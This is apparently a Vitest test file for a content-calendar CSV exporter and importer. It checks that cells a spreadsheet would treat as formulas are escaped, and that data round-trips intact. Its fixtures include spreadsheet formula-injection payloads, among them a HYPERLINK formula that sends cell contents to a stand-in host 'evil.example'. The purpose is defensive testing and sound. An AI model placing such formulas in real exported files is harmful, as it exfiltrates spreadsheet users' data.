import fc from 'fast-check';
import Papa from 'papaparse';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { postsToPlanCsv, type ExportPost } from '../../../lib/calendar/export-csv';
import { guessMapping, parsePlanCsv, PLAN_CSV_HEADER, validatePlanRows } from '../../../lib/calendar/plan-csv';
import { PLATFORMS, type Platform } from '../../../lib/models';

const campaigns = [
  { id: 'camp-ramadan', name: 'Promo Ramadan' },
  { id: 'camp-evil', name: '=HYPERLINK("http://evil.example","x")' },
];
const ctx = { timeZone: 'Asia/Jakarta', campaigns, now: Date.UTC(2025, 5, 1) };

function reimport(csv: string) {
  const parsed = parsePlanCsv(csv);
  expect(parsed.errors).toEqual([]);
  return validatePlanRows(parsed.rows, guessMapping(parsed.headers), ctx);
}

const posts: ExportPost[] = [
  {
    platforms: ['instagram', 'tiktok'],
    scheduledAt: Date.UTC(2025, 2, 3, 12, 0),
    caption: 'Menu sahur praktis 🌙\nSimpan dulu, ya; "wajib" dicoba!',
    pillar: 'Edukasi',
    campaignId: 'camp-ramadan',
    status: 'scheduled',
    link: 'https://contoh.co.id/resep?x=1',
    utm: { source: 'instagram', medium: 'social', campaign: 'Promo Ramadan 2025', content: 'reel' },
  },
  {
    platforms: ['x'],
    scheduledAt: Date.UTC(2025, 2, 4, 2, 30),
    caption: '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    pillar: '+62 812',
    campaignId: 'camp-evil',
    status: 'published',
    link: null,
    utm: null,
  },
  {
    platforms: ['linkedin'],
    scheduledAt: null,
    caption: "-10% diskon\t@semua '=pura-pura",
    pillar: null,
    campaignId: null,
    status: 'idea',
    link: null,
    utm: null,
  },
  {
    platforms: ['facebook', 'threads', 'youtube'],
    scheduledAt: Date.UTC(2025, 2, 5, 13, 15),
    caption: '  spasi di awal dan akhir  ',
    pillar: '@Promosi',
    campaignId: 'deleted-campaign',
    status: 'missed',
    link: 'https://contoh.co.id/a?utm_source=lama',
    utm: null,
  },
];

describe('postsToPlanCsv', () => {
  it('writes the template header, a BOM and CRLF rows', () => {
    const csv = postsToPlanCsv(posts, { timeZone: 'Asia/Jakarta', campaigns });
    expect(csv.startsWith(`\ufeff${PLAN_CSV_HEADER}\r\n`)).toBe(true);
    expect(csv.split('\r\n')[1]).toMatch(/^2025-03-03,19:00,"instagram, tiktok",/);
    expect(postsToPlanCsv(posts, { timeZone: 'Asia/Jakarta', campaigns, bom: false }).startsWith('date,')).toBe(true);
  });

  it('neutralises every cell a spreadsheet would treat as a formula', () => {
    const csv = postsToPlanCsv(posts, { timeZone: 'Asia/Jakarta', campaigns });
    const cells = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.flat();
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${posts[1]!.caption}`);
    expect(cells).toContain("'+62 812");
    expect(cells).toContain(`'${campaigns[1]!.name}`);
    expect(cells).toContain("'-10% diskon\t@semua '=pura-pura");
    expect(cells).toContain("'@Promosi");
  });

  it('round-trips through parsePlanCsv and validatePlanRows', () => {
    for (const options of [
      { timeZone: 'Asia/Jakarta', campaigns },
      { timeZone: 'Asia/Jakarta', campaigns, delimiter: ';' as const, lang: 'id' as const },
    ]) {
      const csv = postsToPlanCsv(posts, options);
      const r = reimport(csv);
      expect(r.rejected).toEqual([]);
      expect(r.valid.map((v) => v.rowNumber)).toEqual([2, 3, 4, 5]);
      const back = r.valid.map((v) => v.post);
      for (const [i, original] of posts.entries()) {
        const got = back[i]!;
        expect(got.platforms).toEqual(original.platforms);
        expect(got.scheduledAt).toBe(original.scheduledAt);
        expect(got.caption).toBe(original.caption);
        expect(got.pillar).toBe(original.pillar);
        expect(got.status).toBe(original.status);
      }
      expect(back[0]?.campaignId).toBe('camp-ramadan');
      expect(back[1]?.campaignId).toBe('camp-evil');
      expect(back[3]?.campaignId).toBeNull();
      expect(back[0]?.link).toBe('https://contoh.co.id/resep?x=1');
      expect(back[0]?.utm).toEqual(posts[0]!.utm);
      expect(back[3]?.link).toBe('https://contoh.co.id/a?utm_source=lama');
      expect(back[3]?.utm).toBeNull();
    }
  });

  it('writes times in the requested zone', () => {
    const csv = postsToPlanCsv([posts[0]!], { timeZone: 'Asia/Jayapura', campaigns, bom: false });
    expect(csv.split('\r\n')[1]).toMatch(/^2025-03-03,21:00,/);
  });

  it('round-trips the hostile fixture byte for byte in the text fields', () => {
    const text = readFileSync(fileURLToPath(new URL('../../fixtures/csv/plan-hostile.csv', import.meta.url)), 'utf8');
    const first = reimport(text).valid.map((v) => v.post);
    const second = reimport(postsToPlanCsv(first, { timeZone: 'Asia/Jakarta', campaigns })).valid.map((v) => v.post);
    expect(second.map((p) => [p.caption, p.pillar, p.scheduledAt, p.platforms])).toEqual(
      first.map((p) => [p.caption, p.pillar, p.scheduledAt, p.platforms]),
    );
  });

  it('round-trips arbitrary captions and pillars (property)', () => {
    const text = fc.string({ unit: 'grapheme', maxLength: 60 }).map((s) => s.replace(/\r/g, ''));
    const hostile = fc.constantFrom('=1+1', '+x', '-y', '@z', '\tt', "'=q", "''@w", '"', ',', ';', '\n', '');
    const caption = fc.tuple(hostile, text, hostile).map(([a, b, c]) => a + b + c);
    const pillar = fc
      .tuple(hostile, text)
      .map(([a, b]) => (a + b).replace(/\s+/g, ' ').trim())
      .map((s) => (s === '' ? null : s));
    const post = fc.record({
      platforms: fc.uniqueArray(fc.constantFrom<Platform>(...PLATFORMS), { minLength: 1, maxLength: 7 }),
      scheduledAt: fc.integer({ min: Date.UTC(2025, 0, 1) / 60_000, max: Date.UTC(2028, 11, 31) / 60_000 }).map((m) => m * 60_000),
      caption,
      pillar,
    });
    fc.assert(
      fc.property(fc.array(post, { minLength: 1, maxLength: 5 }), fc.constantFrom(',' as const, ';' as const), (items, delimiter) => {
        const full: ExportPost[] = items.map((p) => ({ ...p, campaignId: null, status: 'draft', link: null, utm: null }));
        const r = reimport(postsToPlanCsv(full, { timeZone: 'Asia/Jakarta', campaigns, delimiter }));
        expect(r.rejected).toEqual([]);
        expect(r.valid.map((v) => [v.post.caption, v.post.pillar, v.post.scheduledAt, v.post.platforms])).toEqual(
          full.map((p) => [p.caption, p.pillar, p.scheduledAt, p.platforms]),
        );
      }),
      { numRuns: 100 },
    );
  });
});
